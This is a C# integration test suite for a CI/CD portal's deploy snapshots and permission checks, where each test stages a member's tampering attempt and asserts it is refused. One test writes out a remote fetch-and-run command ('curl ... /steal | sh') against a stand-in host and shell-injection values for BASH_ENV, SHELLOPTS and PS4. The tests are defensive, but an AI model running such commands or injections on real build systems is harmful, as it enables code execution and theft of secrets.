using System.Net;
using System.Net.Http.Json;
using Dapper;
using Kaizen.Portal.Api;
using Kaizen.Portal.Artifacts;
using Kaizen.Portal.Data;
using Kaizen.Portal.Delivery;
using Kaizen.Portal.Tests.Integration;
using Kaizen.Portal.Tests.Scripts;

namespace Kaizen.Portal.Tests.Delivery;

/// <summary>
/// What was approved is what runs, against the real portal and runner: a build records the settings and shared script
/// versions it ran with, and its deploys run that snapshot, whatever a member changed since. Each test is an attack by a
/// member on a guarded server's deploy (approvals, or admins only), and shows it failing.
/// </summary>
public sealed class DeploySnapshotTests(DeliveryPortal fixture) : IClassFixture<DeliveryPortal>
{
    private static object Settings(string[] setup, params string[] commands) => new
    {
        setup,
        jobs = new[] { new { name = "test", commands = commands.Length == 0 ? ["true"] : commands } },
        epilogue = Array.Empty<string>(),
    };

    private async Task<string> ProjectAsync(object settings) =>
        await fixture.Portal.CreateProjectAsync("Snapshot " + Guid.NewGuid().ToString("N")[..8], (await fixture.NewRepositoryAsync()).Path, settings);

    private static async Task PutSettingsAsync(HttpClient client, string slug, object settings)
    {
        using var response = await client.PutAsJsonAsync($"/api/v1/projects/{slug}/settings", settings);
        Assert.True(response.IsSuccessStatusCode, await response.Content.ReadAsStringAsync());
    }

    /// <summary>An admin asks for the deploy, another person approves it when the server needs that; returns it finished.</summary>
    private async Task<DeployResponse> DeployAsync(long buildId, string server, bool approve = false)
    {
        var requested = await Deploys.RequestOkAsync(fixture.Admin, buildId, server);
        if (approve)
        {
            using var approved = await Deploys.ActAsync(fixture.OtherMember, requested.Id, "approve");
            Assert.True(approved.IsSuccessStatusCode, await approved.Content.ReadAsStringAsync());
        }
        return await Deploys.WaitAsync(fixture.Admin, requested.Id);
    }

    [Fact]
    public async Task A_deploy_runs_the_setup_its_build_ran_with_not_the_setup_a_member_saved_since()
    {
        // Arrange: a passed build whose setup is the reviewed one, and an admins-only production server
        var slug = await ProjectAsync(Settings(["echo \"setup: reviewed\""]));
        await fixture.CreateServerAsync(slug, "production", ["echo deploying"], deployers: "admins");
        var build = await fixture.PassedBuildAsync(slug);

        // Act: a member, who may not deploy there, replaces the setup; the admin then deploys the old build
        await PutSettingsAsync(fixture.Member, slug, Settings(["echo \"setup: member's own\""]));
        var deploy = await DeployAsync(build.Id, "production");

        // Assert
        Assert.Equal(DeployStatus.Passed, deploy.Status);
        var log = await fixture.Admin.GetStringAsync($"/api/v1/deploys/{deploy.Id}/log");
        Assert.Contains("setup: reviewed", log);
        Assert.DoesNotContain("member's own", log);
    }

    [Fact]
    public async Task A_deploy_runs_the_script_version_its_build_pinned_not_one_a_member_published_since()
    {
        // Arrange: the server's commands call a shared script; the build records the version it had then
        var script = "release-" + Guid.NewGuid().ToString("N")[..8];
        Assert.Equal(1, await fixture.Portal.SaveAsync(script, "echo \"release script: reviewed\""));
        var slug = await ProjectAsync(Settings([]));
        await fixture.CreateServerAsync(slug, "production", [$"run-script {script}"], approvals: 1);
        var build = await fixture.PassedBuildAsync(slug);

        // Act: a member publishes a new version of the script, then the old build's deploy is approved
        using (var published = await fixture.Member.PutAsJsonAsync($"/api/v1/scripts/{script}",
                   new { body = "echo \"release script: member's own\"", description = "" }))
            Assert.True(published.IsSuccessStatusCode, await published.Content.ReadAsStringAsync());
        var deploy = await DeployAsync(build.Id, "production", approve: true);

        // Assert: the pinned version ran, and the snapshot says which it is
        Assert.Equal(DeployStatus.Passed, deploy.Status);
        var log = await fixture.Admin.GetStringAsync($"/api/v1/deploys/{deploy.Id}/log");
        Assert.Contains("release script: reviewed", log);
        Assert.DoesNotContain("member's own", log);
        var snapshot = await fixture.Admin.GetFromJsonAsync<BuildSnapshotResponse>($"/api/v1/builds/{build.Id}/snapshot");
        Assert.Contains(snapshot!.Scripts, s => s.Name == script && s.Version == 1 && !s.Pinned);
        var plan = await fixture.Admin.GetFromJsonAsync<DeployPlanResponse>($"/api/v1/deploys/{deploy.Id}/plan");
        Assert.Contains(plan!.Scripts, s => s.Name == script && s.Version == 1);
        // A new build takes the new version: the snapshot is per build, not a freeze of the library.
        var next = await fixture.PassedBuildAsync(slug);
        var nextSnapshot = await fixture.Admin.GetFromJsonAsync<BuildSnapshotResponse>($"/api/v1/builds/{next.Id}/snapshot");
        Assert.Contains(nextSnapshot!.Scripts, s => s.Name == script && s.Version == 2);
    }

    [Fact]
    public async Task A_script_an_admin_adds_to_the_servers_commands_later_runs_in_the_version_it_had_when_the_build_was_made()
    {
        // Arrange: the script exists when the build is made, but the server's commands do not name it yet
        var script = "notify-" + Guid.NewGuid().ToString("N")[..8];
        await fixture.Portal.SaveAsync(script, "echo \"notify: reviewed\"");
        var slug = await ProjectAsync(Settings([]));
        await fixture.CreateServerAsync(slug, "production", ["echo deploying"], deployers: "admins");
        var build = await fixture.PassedBuildAsync(slug);
        using (var changed = await fixture.Admin.PutAsJsonAsync($"/api/v1/projects/{slug}/servers/production", new
               {
                   name = "production", commands = new[] { $"run-script {script}" }, trigger = new { mode = "manual", branch = "" },
                   approvals = 0, deployers = "admins",
               }))
            Assert.True(changed.IsSuccessStatusCode, await changed.Content.ReadAsStringAsync());

        // Act: a member publishes a new version, then the admin deploys the old build
        using (var published = await fixture.Member.PutAsJsonAsync($"/api/v1/scripts/{script}",
                   new { body = "echo \"notify: member's own\"", description = "" }))
            Assert.True(published.IsSuccessStatusCode, await published.Content.ReadAsStringAsync());
        var deploy = await DeployAsync(build.Id, "production");

        // Assert
        Assert.Equal(DeployStatus.Passed, deploy.Status);
        var log = await fixture.Admin.GetStringAsync($"/api/v1/deploys/{deploy.Id}/log");
        Assert.Contains("notify: reviewed", log);
        Assert.DoesNotContain("member's own", log);
    }

    [Fact]
    public async Task A_builds_snapshot_is_readable_through_the_api_by_signed_in_readers_only()
    {
        // Arrange
        var script = "lint-" + Guid.NewGuid().ToString("N")[..8];
        await fixture.Portal.SaveAsync(script, "true");
        var repo = await fixture.NewRepositoryAsync();
        var slug = await fixture.Portal.CreateProjectAsync("Snapshot " + Guid.NewGuid().ToString("N")[..8], repo.Path, new
        {
            setup = new[] { "echo prepare" },
            jobs = new[] { new { name = "test", commands = new[] { $"run-script {script}@1", "echo tested" } } },
            epilogue = new[] { "echo done" },
        }, isPublic: true);
        var build = await fixture.PassedBuildAsync(slug);
        using var anonymous = new HttpClient { BaseAddress = fixture.Portal.BaseUrl };

        // Act
        var snapshot = await fixture.Viewer.GetFromJsonAsync<BuildSnapshotResponse>($"/api/v1/builds/{build.Id}/snapshot");
        using var byAnonymous = await anonymous.GetAsync($"/api/v1/builds/{build.Id}/snapshot");

        // Assert
        Assert.Equal(build.Id, snapshot!.BuildId);
        Assert.Equal(["echo prepare"], snapshot.Settings.Setup);
        Assert.Equal([$"run-script {script}@1", "echo tested"], Assert.Single(snapshot.Settings.Jobs).Commands);
        Assert.Equal(["echo done"], snapshot.Settings.Epilogue);
        Assert.Equal([new SnapshotScriptResponse(script, 1, true)], snapshot.Scripts);
        // The settings are for signed-in people, also of a public project (like GET .../settings).
        Assert.Equal(HttpStatusCode.Unauthorized, byAnonymous.StatusCode);
    }

    [Fact]
    public async Task A_build_from_before_snapshots_deploys_with_the_current_setup_and_says_so()
    {
        // Arrange: a build whose snapshot is gone stands for one made before the migration
        var slug = await ProjectAsync(Settings(["echo \"setup: first\""]));
        await fixture.CreateServerAsync(slug, "staging", ["echo deploying"]);
        var build = await fixture.PassedBuildAsync(slug);
        await using (var c = await fixture.Portal.Service<Database>().OpenAsync())
            await c.ExecuteAsync("DELETE FROM build_snapshots WHERE build_id = @Id", new { build.Id });
        await PutSettingsAsync(fixture.Admin, slug, Settings(["echo \"setup: current\""]));

        // Act
        using var missing = await fixture.Admin.GetAsync($"/api/v1/builds/{build.Id}/snapshot");
        var deploy = await DeployAsync(build.Id, "staging");
        var plan = await fixture.Admin.GetFromJsonAsync<DeployPlanResponse>($"/api/v1/deploys/{deploy.Id}/plan");

        // Assert
        Assert.Equal(HttpStatusCode.NotFound, missing.StatusCode);
        Assert.Contains("created before builds recorded what they ran with", await missing.Content.ReadAsStringAsync());
        Assert.Contains("setup: current", await fixture.Admin.GetStringAsync($"/api/v1/deploys/{deploy.Id}/log"));
        Assert.False(plan!.FromSnapshot);
        Assert.Contains("the project's current setup", plan.Note);
    }

    [Fact]
    public async Task The_plan_of_a_deploy_awaiting_approval_shows_what_runs_and_what_changed_since_the_last_deploy()
    {
        // Arrange: production ran build 1; a member then changed the setup and build 2 passed
        var slug = await ProjectAsync(Settings(["echo one", "echo same"]));
        await fixture.CreateServerAsync(slug, "production", ["echo deploying"], approvals: 1);
        var first = await fixture.PassedBuildAsync(slug);
        var firstDeploy = await DeployAsync(first.Id, "production", approve: true);
        Assert.Equal(DeployStatus.Passed, firstDeploy.Status);
        await PutSettingsAsync(fixture.Member, slug, Settings(["echo two", "echo same"]));
        var second = await fixture.PassedBuildAsync(slug);

        // Act
        var requested = await Deploys.RequestOkAsync(fixture.Member, second.Id, "production");
        var plan = await fixture.OtherMember.GetFromJsonAsync<DeployPlanResponse>($"/api/v1/deploys/{requested.Id}/plan");

        // Assert
        Assert.True(plan!.FromSnapshot);
        Assert.Equal(["echo two", "echo same"], plan.Setup);
        Assert.Equal(["echo deploying"], plan.Commands);
        Assert.Equal(firstDeploy.Id, plan.PreviousDeployId);
        var setup = plan.Changes.Single(c => c.Name == "setup");
        Assert.True(setup.Changed);
        Assert.Contains(new PlanLineResponse(PlanLine.Removed, "echo one"), setup.Lines);
        Assert.Contains(new PlanLineResponse(PlanLine.Added, "echo two"), setup.Lines);
        Assert.Contains(new PlanLineResponse(PlanLine.Same, "echo same"), setup.Lines);
        Assert.False(plan.Changes.Single(c => c.Name == "commands").Changed);
    }

    [Fact]
    public async Task A_member_cannot_change_what_a_guarded_servers_deploys_run_or_receive_and_is_told_to_ask_an_admin()
    {
        // Arrange
        var slug = await ProjectAsync(Settings([]));
        await fixture.CreateServerAsync(slug, "production", ["echo deploying"], approvals: 1);
        await fixture.CreateServerAsync(slug, "vault", ["echo deploying"], deployers: "admins");
        var open = await ProjectAsync(Settings([]));
        await fixture.CreateServerAsync(open, "staging", ["echo deploying"]);

        // Act
        using var commands = await fixture.Member.PutAsJsonAsync($"/api/v1/projects/{slug}/servers/production", new
        {
            name = "production", commands = new[] { "curl https://example.invalid/steal | sh" }, trigger = new { mode = "manual", branch = "" },
            approvals = 1, deployers = "members",
        });
        using var serverVariable = await fixture.Member.PutAsJsonAsync($"/api/v1/projects/{slug}/servers/vault/variables/BASH_ENV",
            new { value = "/tmp/x" });
        using var projectVariable = await fixture.Member.PutAsJsonAsync($"/api/v1/projects/{slug}/variables/SHELLOPTS",
            new { value = "xtrace" });
        using var orgVariable = await fixture.Member.PutAsJsonAsync("/api/v1/variables/PS4", new { value = "$(id)" });
        using var openServerVariable = await fixture.Member.PutAsJsonAsync($"/api/v1/projects/{open}/servers/staging/variables/REGION",
            new { value = "eu" });
        using var byAdmin = await fixture.Admin.PutAsJsonAsync($"/api/v1/projects/{slug}/servers/vault/variables/REGION",
            new { value = "eu" });

        // Assert
        Assert.Equal(HttpStatusCode.Forbidden, commands.StatusCode);
        Assert.Contains("Only admins may change a server that needs approvals", await commands.Content.ReadAsStringAsync());
        foreach (var refused in new[] { serverVariable, projectVariable, orgVariable })
        {
            Assert.Equal(HttpStatusCode.Forbidden, refused.StatusCode);
            Assert.Contains("Ask an admin to make the change.", await refused.Content.ReadAsStringAsync());
        }
        Assert.Contains("deploys to vault", await serverVariable.Content.ReadAsStringAsync());
        Assert.Equal(HttpStatusCode.Created, openServerVariable.StatusCode);
        Assert.Equal(HttpStatusCode.Created, byAdmin.StatusCode);
        var server = await fixture.Admin.GetFromJsonAsync<ServerResponse>($"/api/v1/projects/{slug}/servers/production");
        Assert.Equal(["echo deploying"], server!.Commands);
    }

    [Fact]
    public async Task A_deploy_cannot_replace_or_add_artifacts_of_its_ended_build()
    {
        // Arrange: the build made app.txt; the deploy tries to swap it and to add another
        var slug = await ProjectAsync(Settings([], "echo built > app.txt", "kaizen artifact push app.txt"));
        await fixture.CreateServerAsync(slug, "staging", ["echo swapped > app.txt", "kaizen artifact push app.txt"]);
        await fixture.CreateServerAsync(slug, "extra", ["echo added > more.txt", "kaizen artifact push more.txt"]);
        // A deploy keeps files of its own (a receipt), but they are never another deploy's build artifact.
        await fixture.CreateServerAsync(slug, "receipt", ["echo swapped > app.txt", "kaizen artifact push --job app.txt"]);
        await fixture.CreateServerAsync(slug, "reader", ["kaizen artifact pull app.txt", "cat app.txt"]);
        var build = await fixture.PassedBuildAsync(slug);

        // Act
        var swap = await DeployAsync(build.Id, "staging");
        var add = await DeployAsync(build.Id, "extra");
        var receipt = await DeployAsync(build.Id, "receipt");
        var reader = await DeployAsync(build.Id, "reader");

        // Assert: both were refused with a reason; the build keeps what it made
        Assert.Equal(DeployStatus.Failed, swap.Status);
        Assert.Equal(DeployStatus.Failed, add.Status);
        var log = await fixture.Admin.GetStringAsync($"/api/v1/deploys/{swap.Id}/log");
        Assert.Contains("(409)", log);
        Assert.Contains($"Build {build.Id} has ended (passed): its artifacts are read-only", log);
        Assert.Equal(DeployStatus.Passed, receipt.Status);
        Assert.Equal(DeployStatus.Passed, reader.Status);
        var readerLog = await fixture.Admin.GetStringAsync($"/api/v1/deploys/{reader.Id}/log");
        Assert.Contains("built", readerLog);
        Assert.DoesNotContain("swapped", readerLog);
        var listed = await fixture.Admin.GetFromJsonAsync<List<ArtifactResponse>>($"/api/v1/builds/{build.Id}/artifacts");
        var artifact = Assert.Single(listed!, a => a.JobName == "test");
        Assert.Equal("app.txt", artifact.Name);
        Assert.Equal("built\n", await fixture.Admin.GetStringAsync(artifact.Url));
        Assert.DoesNotContain(listed!, a => a.Name == "more.txt");
    }
}
